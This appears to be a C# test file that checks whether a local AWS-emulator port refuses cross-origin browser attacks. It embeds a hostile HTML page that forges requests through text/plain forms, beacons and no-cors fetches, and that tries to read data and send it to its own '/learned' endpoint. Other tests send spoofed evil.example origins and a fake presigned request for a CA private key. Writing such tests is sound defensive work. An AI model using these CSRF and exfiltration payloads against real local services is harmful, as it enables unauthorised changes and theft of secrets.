using System.Collections.Concurrent;
using System.Net;
using System.Net.Http.Headers;
using System.Text;
using CdfProvisioning.Iot;
using Microsoft.AspNetCore.Builder;
using Microsoft.AspNetCore.Hosting;
using Microsoft.AspNetCore.Http;
using Xunit;

namespace CdfProvisioning.Tests.Aws;

/// <summary>Without an access key the AWS port answers any program of this machine, but nothing that a web page has made a browser send.</summary>
public sealed class BrowserTests
{
    private const string Presigned = "?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential=any%2F20260101%2Fus-east-1%2F{0}%2Faws4_request&X-Amz-Date=20260101T000000Z"
        + "&X-Amz-Expires=600&X-Amz-SignedHeaders=host&X-Amz-Signature=0000000000000000000000000000000000000000000000000000000000000000";

    private static CancellationToken Cancellation => TestContext.Current.CancellationToken;

    [Fact]
    public async Task A_page_of_another_origin_changes_nothing_and_learns_nothing()
    {
        await using var host = await AwsHost.StartAsync();
        var aws = host.Endpoint.AbsoluteUri.TrimEnd('/');
        var asked = new ConcurrentBag<string>();
        await using var site = Site($$"""
            <!DOCTYPE html><title>busy</title><iframe name="frame"></iframe>
            <form id="text" method="post" enctype="text/plain" target="frame" action="{{aws}}/things/by-form{{Of("iot")}}"><input name='{"a":"' value='"}'></form>
            <form id="url" method="post" target="frame" action="{{aws}}/things/by-form-2{{Of("iot")}}"><input name="a" value="b"></form>
            <img src="{{aws}}/things{{Of("iot")}}">
            <script>
                const to = name => '{{aws}}/things/' + name + '{{Of("iot")}}';
                document.getElementById('text').submit();
                document.getElementById('url').submit();
                navigator.sendBeacon(to('by-beacon'), '{}');
                Promise.allSettled([
                    fetch(to('by-fetch'), { method: 'POST', mode: 'no-cors', body: '{}' }),
                    fetch(to('by-blob'), { method: 'POST', mode: 'no-cors', body: new Blob(['{}']) }),
                    fetch(to('by-json'), { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: '{}' }),
                    fetch('{{aws}}/things{{Of("iot")}}').then(answer => answer.text()).then(text => fetch('/learned?' + encodeURIComponent(text))),
                    fetch('{{aws}}/?Action=AssumeRole', { method: 'POST', mode: 'no-cors', body: 'Action=AssumeRole' }),
                ]).then(() => setTimeout(() => document.title = 'done', 1000));
            </script>
            """, asked);
        await site.StartAsync(Cancellation);

        var document = await Chromium.OpenAsync(new(site.Urls.First().Replace("127.0.0.1", "localhost", StringComparison.Ordinal)));

        Assert.Contains("<title>done</title>", document);
        Assert.DoesNotContain(asked, path => path.StartsWith("/learned", StringComparison.Ordinal));
        Assert.Empty((await host.Connection.Registry.InvokeAsync(new ListThingsRequest(), Cancellation)).Things!);
        Assert.DoesNotContain("iot:CreateThing", host.Called);
        Assert.True(host.Requests >= 6, $"Only {host.Requests} requests came.");
    }

    [Theory]
    [InlineData("Origin", "https://evil.example")]
    [InlineData("Origin", "null")]
    [InlineData("Sec-Fetch-Site", "cross-site")]
    [InlineData("Sec-Fetch-Site", "same-site")]
    [InlineData("Sec-Fetch-Site", "same-origin")]
    [InlineData("Content-Type", "text/plain")]
    [InlineData("Content-Type", "text/plain;charset=UTF-8")]
    [InlineData("Content-Type", "application/x-www-form-urlencoded")]
    [InlineData("Content-Type", "multipart/form-data; boundary=x")]
    public async Task What_a_browser_gives_away_is_refused_and_without_it_the_same_is_answered(string header, string value)
    {
        await using var host = await AwsHost.StartAsync();
        using var http = new HttpClient { BaseAddress = host.Endpoint };

        using var refused = await http.SendAsync(CreateThing("t", header, value), Cancellation);
        Assert.Equal(HttpStatusCode.Forbidden, refused.StatusCode);
        Assert.Empty((await host.Connection.Registry.InvokeAsync(new ListThingsRequest(), Cancellation)).Things!);
        using var answered = await http.SendAsync(CreateThing("t", "Sec-Fetch-Site", "none"), Cancellation);
        Assert.Equal(HttpStatusCode.OK, answered.StatusCode);
    }

    [Fact]
    public async Task Without_an_access_key_no_key_of_a_CA_is_answered()
    {
        await using var host = await AwsHost.StartAsync();
        var ca = await host.Connection.CertificateAuthorities.CreateAsync(new("CA"), TimeSpan.FromDays(10), Cancellation);
        using var http = new HttpClient { BaseAddress = host.Endpoint };
        using var request = new HttpRequestMessage(HttpMethod.Post, string.Format(null, Presigned, "ssm").Insert(0, "/"))
        {
            Content = new StringContent($$"""{"Name":"cdf-ca-key-{{ca.CaId}}","WithDecryption":true}""", Encoding.UTF8, "application/x-amz-json-1.1"),
            Headers = { { "X-Amz-Target", "AmazonSSM.GetParameter" } },
        };

        using var response = await http.SendAsync(request, Cancellation);

        var body = await response.Content.ReadAsStringAsync(Cancellation);
        Assert.Contains("AccessDeniedException", body);
        Assert.DoesNotContain("PRIVATE KEY", body);
    }

    private static string Of(string service) => string.Format(null, Presigned, service);

    private static HttpRequestMessage CreateThing(string name, string header, string value)
    {
        var request = new HttpRequestMessage(HttpMethod.Post, $"/things/{name}{Of("iot")}") { Content = new StringContent("{}", Encoding.UTF8, "application/json") };
        if (header == "Content-Type")
            request.Content.Headers.ContentType = MediaTypeHeaderValue.Parse(value);
        else
            request.Headers.TryAddWithoutValidation(header, value);
        return request;
    }

    private static WebApplication Site(string page, ConcurrentBag<string> asked)
    {
        var builder = WebApplication.CreateEmptyBuilder(new());
        builder.WebHost.UseKestrelCore().UseUrls("http://127.0.0.1:0");
        var site = builder.Build();
        site.Run(context =>
        {
            asked.Add(context.Request.Path.Value! + context.Request.QueryString);
            context.Response.ContentType = "text/html; charset=utf-8";
            return context.Response.WriteAsync(context.Request.Path == "/" ? page : "", context.RequestAborted);
        });
        return site;
    }
}
